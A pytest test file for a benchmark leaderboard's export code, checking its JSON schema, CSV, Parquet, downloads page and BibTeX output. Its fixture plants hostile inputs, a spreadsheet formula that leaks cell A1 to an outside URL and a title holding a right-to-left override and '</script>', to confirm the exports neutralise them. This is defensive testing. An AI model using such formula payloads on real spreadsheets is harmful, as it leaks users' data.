from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from itertools import accumulate
from pathlib import Path
from typing import Any

import pyarrow.parquet as pq
import pytest
from jsonschema import Draft202012Validator

from adbench_harness.home import Results
from adbench_harness.store.database import reading
from adbench_harness.store.ingest import ingest
from adbench_leaderboard import queries
from adbench_leaderboard.exports import bibliography, exports
from adbench_leaderboard.exports.scores import COLUMNS
from adbench_leaderboard.exports.sheets import sheet
from adbench_leaderboard.pages import downloads
from adbench_leaderboard.site import Site
from adbench_leaderboard.templating import Templates
from adbench_leaderboard.views.overview import overviews

MakeRun = Callable[..., str]

EVIL = '=HYPERLINK("https://example.org/?"&A1)'
TURNED = "safe\N{RIGHT-TO-LEFT OVERRIDE}</script>\u2028"
OTHER = (0.1, 0.2, 0.3, 0.35, 0.4, 0.8, 0.9)


@contextmanager
def opened(results: Results) -> Iterator[Site]:
    with reading(results.database) as db:
        yield Site(db, queries.runs(db), "0.1.0")


@pytest.fixture
def store(results: Results, make_run: MakeRun) -> Results:
    make_run("a-0")
    make_run("a-1", split=1, scores=OTHER)
    make_run("b-0", model="kd", scores=OTHER, variant=EVIL, title=TURNED)
    make_run("c-0", model="off", overrides={"epochs": "2"})
    ingest(results)
    return results


def files(site: Site) -> dict[str, bytes]:
    return {one.file.path: one.file.content for one in exports(site)}


def table(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode(), newline="")))


def test_the_document_has_the_form_it_states_and_the_figures_of_the_page(store: Results) -> None:
    with opened(store) as site:
        found = files(site)
        (one,) = overviews(site)
        document: Any = json.loads(found["data/leaderboard.json"])
        form = json.loads(found["data/leaderboard.schema.json"])
        Draft202012Validator.check_schema(form)
        Draft202012Validator(form).validate(document)
        (board,) = document["boards"]
        assert (document["schema_version"], document["schema_minor"]) == (1, 1)
        assert {run["run_id"]: run["board"] for run in document["runs"]} == {
            **dict.fromkeys(("a-0", "a-1", "b-0"), board["id"]),
            "c-0": None,
        }
        ids = {model["variant"]: model["id"] for model in document["models"]}
        for model in one.board.models:
            for dataset in one.board.datasets:
                (cell,) = [cell for cell in board["cells"] if cell["model"] == ids[model.variant]]
                area, rate, place = (
                    one.area(model, dataset),
                    one.rate(model, dataset, "specificity", "youden"),
                    one.place(model, dataset),
                )
                assert area
                assert rate
                assert place
                assert (cell["roc_auc"]["value"], cell["roc_auc"]["low"]) == (area.mean, (area.interval or (None, None))[0])
                assert (cell["rules"]["youden"]["specificity"]["value"], cell["letters"]) == (rate.mean, place.letters)
        # What stands in the place of a rule is explained, and no figure of an oracle can be taken for an honest one.
        named = {rule for run in document["runs"] for task in run["figures"].values() for rule in task}
        assert named <= set(document["rules"])
        assert {name for name, rule in document["rules"].items() if rule["oracle"]} == {"best-f1", "youden"}
        assert all(rule["description"] for rule in document["rules"].values())
        boards = json.loads(found["data/boards.json"])
        assert boards == {name: part for name, part in document.items() if name != "runs"}
        Draft202012Validator(form).validate(boards)
        # The document is as strict as it says: what is not described is refused.
        document["runs"][0]["extra"] = 1
        assert list(Draft202012Validator(form).iter_errors(document))


def test_hostile_words_are_text_in_each_form(store: Results) -> None:
    with opened(store) as site:
        found = files(site)
    document = found["data/leaderboard.json"]
    assert document.isascii()
    assert b"<" not in document
    assert {model["title"] for model in json.loads(document)["models"]} >= {TURNED}
    sheets = {path: content for path, content in found.items() if path.endswith(".csv")}
    cells = [cell for content in sheets.values() for row in table(content) for cell in row.values()]
    assert f"'{EVIL}" in cells
    assert not [cell for cell in cells if re.match(r"[=+@\t\r]|-(?![\d.]|inf$)", cell)]
    bib = found["data/cite.bib"].decode()
    assert "\N{RIGHT-TO-LEFT OVERRIDE}" not in bib
    assert bib.count("{") == bib.count("}")


def test_a_board_as_a_table(store: Results) -> None:
    with opened(store) as site:
        (path,) = [path for path in files(site) if path.startswith("data/board/")]
        rows = table(files(site)[path])
    assert [(row["model"], row["rule"], row["oracle"], row["split"]) for row in rows] == [
        *(("kd", rule, "1", "0") for rule in ("best-f1", "youden")),
        *(("pca", rule, "1", "0") for rule in ("best-f1", "youden")),
    ]
    assert float(rows[2]["roc_auc_low"]) < float(rows[2]["roc_auc"]) == pytest.approx(11 / 12)
    assert float(rows[2]["roc_auc_highest_run"]) == 1
    assert {row["letters"] for row in rows} == {"a"}
    with opened(store) as site:
        (board,) = site.boards
    stated = {(row["protocol"], row["protocol_version"], row["fit_digest"], row["evaluation_digest"]) for row in rows}
    assert stated == {tuple(map(str, board.key))}


def test_scores_are_all_there_sorted_and_described(store: Results) -> None:
    with opened(store) as site:
        found = pq.read_table(io.BytesIO(files(site)["data/scores.parquet"])).to_pylist()
    assert list(found[0]) == list(COLUMNS)
    assert len(found) == 4 * 7
    assert [(row["run_id"], row["image"]) for row in found] == sorted((row["run_id"], row["image"]) for row in found)
    assert found[3] == {"run_id": "a-0", "dataset": "phantom", "image": "image-3", "label": 0, "subset": "test", "score": 0.7}


def test_the_page_lists_each_file_with_its_size_and_digest(store: Results, tmp_path: Path) -> None:
    with opened(store) as site, opened(store) as again:
        *given, page = downloads.files(site, Templates.of(site))
        found = exports(again)
    text = page.content.decode()
    assert page.path == "downloads.html"
    # The same store gives the same bytes.
    assert {file.path: file.content for file in given} == {one.file.path: one.file.content for one in found}
    for one in found:
        assert f'href="{one.file.path}"' in text
        assert one.digest in text
    assert all(f"<code>{column}</code>" in text for column in COLUMNS)


def test_a_sheet_of_numbers_keeps_them() -> None:
    content = sheet(
        "x.csv", [{"a": -0.5, "b": "-0.5", "c": None, "d": 'say "=1", please', "e": "-\N{GREEK SMALL LETTER ALPHA}"}]
    ).content
    assert content.decode() == 'a,b,c,d,e\r\n-0.5,\'-0.5,,"say ""=1"", please",\'-\N{GREEK SMALL LETTER ALPHA}\r\n'


def test_adbench_is_cited_as_its_own_file_says() -> None:
    cff = (Path(__file__).parents[4] / "CITATION.cff").read_text(encoding="utf-8")
    assert f'title: "{bibliography.OURS["title"].strip("{}")}"' in cff
    assert f'name: "{bibliography.OURS["author"].strip("{}")}"' in cff
    assert f"date-released: {bibliography.OURS['year']}-" in cff


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("50 % of {a} & b_c", r"50 \% of \textbraceleft{}a\textbraceright{} \& b\_c"),
        ("\\input{x}", r"\textbackslash{}input\textbraceleft{}x\textbraceright{}"),
        ("a\n b", "a b"),
    ],
)
def test_words_are_escaped_for_bibtex(text: str, expected: str) -> None:
    assert bibliography.escape(text) == expected


@pytest.mark.parametrize("text", ["}", "{", "\\}", "}}@misc(", "}, note = {x", "\\{}}{"])
def test_no_word_ends_an_entry_of_bibtex(text: str) -> None:
    entry = bibliography.own_entry(text).rstrip("\n")
    # BibTeX counts every brace, whatever stands before it.
    depths = list(accumulate({"{": 1, "}": -1}.get(character, 0) for character in entry[len("@misc") :]))
    assert [place for place, depth in enumerate(depths) if depth == 0] == [len(depths) - 1]
    assert [line for line in entry.splitlines() if " = " in line] == entry.splitlines()[1:-1]
    field = f"version = {{{bibliography.escape(text)}}},"
    assert field in entry
    assert min(accumulate({"{": 1, "}": -1}.get(character, 0) for character in bibliography.escape(text))) >= 0
